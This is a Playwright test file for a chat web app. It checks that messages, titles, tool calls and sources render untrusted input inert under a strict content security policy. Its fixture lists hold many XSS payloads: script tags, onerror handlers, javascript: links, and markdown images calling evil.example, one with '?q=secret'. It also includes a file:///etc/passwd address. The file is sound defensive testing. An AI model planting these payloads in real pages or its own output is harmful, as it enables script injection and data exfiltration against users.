"""Untrusted words stay words: in answers, questions and titles nothing runs, nothing is fetched, no policy is touched.

The `context` fixture fails a test for a dialog, a CSP report, or a request to another host.
"""

import json
from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from mynah.nouns import Message
from tests.page.conftest import Bird
from tests.page.steps import answers

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<video src=https://evil.example/v autoplay><audio src=https://evil.example/a autoplay>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "![x](https://evil.example/?q=secret)",
    "![x](https://evil.example/p.svg#x 'title')",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a]\n\n[a]: https://evil.example/ref.png",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\includegraphics{https://evil.example/m.png}$$",
    "$\\htmlStyle{background:url(https://evil.example/b)}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\n1\n```',
    "{{constructor.constructor('alert(1)')()}}",
    "</textarea><script>alert(1)</script>",
    "\u202etxet desrever\u202c <b onmouseover=alert(1)>bold</b>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "- [x] <input onfocus=alert(1) autofocus>",
]
ADDRESSES = [
    "https://good.example@evil.example/",
    "HTTPS://evil.example/x y",
    "https://xn--e1awd7f.example/",
    "//evil.example/",
    "javascript://evil.example/%0aalert(1)",
    "\tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "/api/session",
    "https://",
]
FORBIDDEN = (
    "script, iframe, object, embed, form[action], video, audio, style, link, meta, base, img, [onerror], [onload]"
)


def test_the_corpus_in_answers_questions_and_titles(page: Page, bird: Bird) -> None:
    said = [(role, text) for text in CORPUS for role in ("user", "assistant")]
    talk = bird.has_talked(*said, title=CORPUS[1])
    for text in CORPUS[:8]:
        bird.has_talked(("user", text), title=text)
    page.goto(f"/c/{talk}")
    expect(page.get_by_text("bold").last).to_be_visible()
    for _ in range(len(CORPUS)):  # of a long conversation the beginning comes as one scrolls up
        page.locator("[data-scrolls]").last.evaluate("box => box.scrollTo(0, 0)")
        page.wait_for_timeout(40)
    expect(answers(page)).to_have_count(len(CORPUS))
    expect(page.locator(".katex").first).to_be_attached()
    dangerous = page.locator(f"main article :is({FORBIDDEN})")
    assert dangerous.evaluate_all("found => found.map(one => one.outerHTML)") == []
    links = page.locator("main article a").evaluate_all("found => found.map(one => [one.href, one.rel, one.target])")
    assert links
    for href, rel, target in links:
        assert href.startswith(("https://", "mailto:", bird.address)), href
        if not href.startswith(bird.address):
            assert "noopener" in rel
            assert target == "_blank"


def test_the_corpus_in_what_tools_are_asked_and_give_and_in_sources(page: Page, bird: Bird) -> None:
    """Names, arguments, results; titles, addresses and words of sources, in a chat and in its snapshot."""
    corpus = [*CORPUS, *ADDRESSES, "$t(send) {{name}}", "javascript:alert(1)//[1](javascript:alert(1))"]
    said: list[Message] = [Message("user", "go")]
    for text in corpus:
        said.append(Message("assistant", "", ({"function": {"name": text, "arguments": text}},)))
        said.append(Message("tool", text))
    found = [{"title": text, "url": text, "text": text} for text in corpus]
    found += [{"title": "https://good.example", "url": url, "text": ""} for url in ADDRESSES]
    said.append(Message("assistant", "", ({"function": {"name": "search", "arguments": "{}"}},)))
    said.append(Message("tool", json.dumps({"sources": found})))
    marks = "".join(f"[{i}]" for i in range(1, len(found) + 1))
    said.append(Message("assistant", f"{marks} [1](javascript:alert(1)) [2]: javascript:alert(1)"))
    talk = bird.has_talked(*said)
    last = bird.address.page().get(f"/api/conversations/{talk}").json()["messages"][-1]["id"]
    share = bird.address.page().post(f"/api/conversations/{talk}/share", json={"message": last}).json()["url"]
    for address in (f"/c/{talk}", share):
        page.goto(address)
        sources = page.get_by_role("region", name="Sources").get_by_role("listitem")
        expect(sources).to_have_count(len(found))
        expect(page.get_by_role("link", name="Source ")).to_have_count(len(found) + 1)  # [2] twice
        page.locator("[data-scrolls]").last.evaluate("box => box.scrollTo(0, 0)") if address != share else None
        page.evaluate("() => document.querySelectorAll('details').forEach(one => one.open = true)")
        expect(page.get_by_role("region", name="Result").last).to_be_visible()
        expect(page.get_by_text("Used $t(send) {{name}}")).to_be_attached()
        dangerous = page.locator(f"main :is(article, section) :is({FORBIDDEN})")
        assert dangerous.evaluate_all("found => found.map(one => one.outerHTML)") == []
        links = sources.get_by_role("link").evaluate_all(
            "all => all.map(one => [one.href, one.rel, one.target, one.parentElement.querySelector('small').innerText])"
        )
        assert len(links) == 2 * 3
        for href, rel, target, host in links:
            assert href.startswith(("https://", "http://"))
            assert host == urlsplit(href).netloc.rpartition("@")[2]  # told, whatever the title says
            assert "noopener" in rel
            assert target == "_blank"
        assert page.locator("main a[href*=javascript]").count() == 0


def test_a_growing_answer_is_no_less_safe(page: Page, bird: Bird) -> None:
    bird.says("<img src=x onerror=alert(1)> ![x](https://evil.example/?q=1) <script>alert(1)</script>", pause=0.005)
    talk = bird.has_talked(("user", "hello"))
    page.goto(f"/c/{talk}")
    page.get_by_role("textbox", name="Write a message").fill("<img src=x onerror=alert(1)>")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Answer again")).to_be_enabled()
    expect(answers(page)).to_contain_text("Picture, not loaded: x")


def test_the_page_brings_a_policy_without_exceptions(page: Page, bird: Bird) -> None:
    response = page.goto("/")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
